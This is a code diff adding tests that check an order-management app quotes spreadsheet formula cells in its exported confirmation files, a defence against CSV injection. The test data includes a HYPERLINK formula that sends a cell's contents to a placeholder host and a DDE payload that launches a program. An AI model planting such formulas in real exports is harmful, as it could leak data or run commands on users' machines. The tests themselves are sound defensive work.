@@ -485,3 +485,33 @@ def test_an_edited_order_without_item_ids_is_kept_out_of_the_file(app, shop):
 
     assert "Download shipment confirmation file" not in page and "it ships an edited order" in page
     assert "Confirmed on Seller Central" in page and confirmations()[confirmation_id][0] == "pending"
+
+
+def test_the_confirmation_file_neutralises_cells_a_spreadsheet_would_run_as_formulas(app, shop):
+    """The service level comes from Amazon's report and the tracking number from whoever keyed it in:
+    neither may run as a formula when the seller opens the file in a spreadsheet (OWASP CSV injection)."""
+    channel = amazon_by_file(shop)
+    rows = [all_orders_row("202-0001050-0001050", "A", "1", "10.00",
+                           **{"ship-service-level": '=HYPERLINK("http://e.example/"&A1)'})]
+    reports.import_file(db.session.get(SalesChannel, channel.id), reports.AMAZON_ALL_ORDERS, tsv(ALL_ORDERS, rows).encode())
+    db.session.rollback()
+    order = db.session.scalar(sa.select(Order).where(Order.channel_order_id == "202-0001050-0001050"))
+    confirmation_id = ship(shop, order, tracking="@SUM(1+1)")
+    client = admin_client(app, shop)
+
+    download = client.get(f"/channels/{channel.id}/confirmations/file?ids={confirmation_id}")
+
+    assert download.status_code == 200
+    header, row = [line.split("\t") for line in download.get_data(as_text=True).splitlines()]
+    assert (row[0], row[6], row[7]) == (
+        "202-0001050-0001050", "'@SUM(1+1)", '\'=HYPERLINK("http://e.example/"&A1)')
+
+
+def test_every_table_the_product_writes_quotes_formula_cells_and_keeps_its_columns():
+    from oms_web.tables import safe_cell, write_table
+
+    assert [safe_cell(v) for v in ("=1+1", "+44 20", "-3", "@x", "\tA", "\rA", "a=b", "", None, 12, -1)] == [
+        "'=1+1", "'+44 20", "'-3", "'@x", "'\tA", "'\rA", "a=b", "", "", "12", "'-1"]
+    assert write_table([("a", "b"), ("=cmd|' /C calc'!A0", 'say "hi", then\nleave')]) == (
+        'a,b\n\'=cmd|\' /C calc\'!A0,"say ""hi"", then\nleave"\n')
+    assert write_table([("a", "b"), ("x\ty", " -z")], delimiter="\t") == "a\tb\nx y\t'-z\n"
